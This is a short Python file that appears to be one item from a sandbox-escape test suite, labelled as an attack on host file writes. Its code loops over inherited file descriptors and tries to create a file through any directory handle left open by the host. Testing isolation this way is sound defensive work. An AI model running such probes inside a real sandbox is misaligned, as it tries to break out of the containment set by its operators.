# id: fw_inherited_folder
# kind: attack
# category: host-file-write
# win: host-files
# note: write by way of a folder that was inherited
import os
for at in range(3, 1024):
    try:
        os.close(os.open('new.txt', os.O_CREAT | os.O_WRONLY, dir_fd=at))
    except OSError:
        pass
